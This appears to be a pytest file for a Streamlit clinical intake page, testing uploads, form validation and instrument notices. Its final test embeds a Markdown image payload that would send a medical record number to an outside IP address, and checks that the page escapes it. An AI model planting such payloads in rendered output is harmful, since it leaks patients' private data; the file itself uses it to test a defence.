"""The Intake page's circumstances (``context``) block, uploads and instrument notices,
through ``streamlit.testing.v1.AppTest`` (same fixtures and helpers as ``test_app``)."""

from __future__ import annotations

import datetime as dt
import json
import re
from pathlib import Path

import pytest

from assistant import intake as intake_mod
from tests.conftest import INTAKES
from tests.test_app import (  # noqa: F401  (fixtures are used by name)
    accounts,
    app,
    data_dir,
    fill_minimal,
    goto,
    load_intake,
    no_exceptions,
    sign_in,
    texts,
)

COURT = INTAKES / "opioid_iop_drug_court.json"
pytestmark = pytest.mark.usefixtures("accounts")  # Ana, a clinician, and her supervisor


def test_an_uploaded_context_block_fills_the_form_and_comes_back_whole() -> None:
    at = load_intake(sign_in(app(), "ana"), COURT)
    no_exceptions(at)
    assert at.text_input(key="in.context.legal.referred_by").value == "drug court"
    assert at.date_input(key="in.context.legal.deadline").value == dt.date(2027, 3, 1)
    assert at.selectbox(key="in.context.legal.mandated").value == "yes"
    assert at.text_input(key="in.ss.0.substance").value == "opioids"
    assert at.selectbox(key="in.ss.0.status").value == "abstinent"
    assert at.selectbox(key="in.ss.0.withdrawal").value == "history"
    assert "naloxone kit" in at.text_area(key="in.context.safety_steps_taken").value
    at.button(key="intake_check").click().run()  # checked again from the widgets
    no_exceptions(at)
    assert at.session_state["intake"] == intake_mod.load(COURT)


def test_the_context_block_is_filled_in_by_hand() -> None:
    at = sign_in(app(), "ana")
    fill_minimal(at)
    at.text_input(key="in.context.occupation").input("retired teacher")
    at.selectbox(key="in.context.legal.mandated").set_value("no")
    at.text_area(key="in.context.risk_to_others").input("drives after drinking")
    at.button(key="add.substance_status").click().run()
    at.text_input(key="in.ss.0.substance").input("alcohol")
    at.selectbox(key="in.ss.0.status").set_value("abstinent")
    at.date_input(key="in.ss.0.since").set_value(dt.date(2026, 9, 1))
    at.button(key="intake_check").click().run()
    no_exceptions(at)
    ctx = at.session_state["intake"].context
    assert ctx.occupation == "retired teacher" and ctx.legal.mandated is False
    assert ctx.risk_to_others == ["drives after drinking"]
    [sub] = ctx.substance_status
    assert (sub.substance, sub.status, sub.since) == ("alcohol", "abstinent", dt.date(2026, 9, 1))


def test_a_substance_row_without_a_name_is_refused_beside_it() -> None:
    at = sign_in(app(), "ana")
    fill_minimal(at)
    at.button(key="add.substance_status").click().run()
    at.selectbox(key="in.ss.0.status").set_value("current_use")
    at.button(key="intake_check").click().run()
    no_exceptions(at)
    assert "intake" not in at.session_state
    assert at.session_state["in_errors"]["in.ss.0.substance"]


def test_an_oversized_upload_is_refused_on_the_server(tmp_path: Path) -> None:
    big = tmp_path / "big.json"
    big.write_bytes(b" " * (intake_mod.MAX_FILE_BYTES + 1))
    at = load_intake(sign_in(app(), "ana"), big)
    no_exceptions(at)
    assert any("is at most 1 MiB" in e for e in texts(at, "error"))
    assert "intake" not in at.session_state


def test_a_duplicate_key_upload_is_refused_naming_it(tmp_path: Path) -> None:
    bad = tmp_path / "dup.json"
    text = (INTAKES / "gad_nurse.json").read_text()
    bad.write_text(
        text.replace('"self_harm": "none"', '"self_harm": "current", "self_harm": "none"')
    )
    at = load_intake(sign_in(app(), "ana"), bad)
    assert any("risk.self_harm: appears twice" in e for e in texts(at, "error"))


def test_a_versioned_instrument_name_is_kept_with_a_notice(tmp_path: Path) -> None:
    data = json.loads((INTAKES / "gad_nurse.json").read_text())
    data["assessments"].append({"instrument": "ASRS v1.1", "score": 41, "date": "2026-10-05"})
    path = tmp_path / "asrs.json"
    path.write_text(json.dumps(data))
    at = load_intake(sign_in(app(), "ana"), path)
    no_exceptions(at)
    assert at.session_state["intake"].assessments[-1].score == 41  # kept, not refused
    assert any("ambiguous instrument name" in c for c in texts(at, "caption"))
    assert any("kept as an unvalidated measure" in w for w in texts(at, "warning"))


def test_no_clinician_is_allowed_and_noted() -> None:
    at = sign_in(app(), "ana")
    fill_minimal(at)
    for key in ("in.clinician.name", "in.clinician.credentials"):
        at.text_input(key=key).input("")
    at.button(key="intake_check").click().run()
    no_exceptions(at)
    assert at.session_state["intake"].clinician is None
    assert any("No clinician is recorded" in w for w in texts(at, "warning"))
    assert json.loads(at.session_state["intake"].model_dump_json())["clinician"] is None


def test_intake_text_shown_on_the_intake_page_cannot_form_an_image_or_link(
    tmp_path: Path,
) -> None:
    hostile = "![x](http://203.0.113.9/p.png?mrn=MRN-20417)"
    data = json.loads((INTAKES / "gad_nurse.json").read_text())
    data["assessments"].append({"instrument": hostile, "score": 3, "date": "2026-10-05"})
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data))
    at = load_intake(sign_in(app(), "ana"), path)
    no_exceptions(at)
    raw = [str(e.value) for kind in ("caption", "warning") for e in getattr(at, kind)]
    shown = [t for t in raw if "203.0.113.9" in t]
    assert shown, "the unknown instrument's notice should quote its name"
    # every bracket is escaped, so Markdown renders the text and fetches nothing
    unescaped = re.compile(r"(?<!\\)(?:!\[|\]\()")
    assert not any(unescaped.search(t) for t in shown), shown
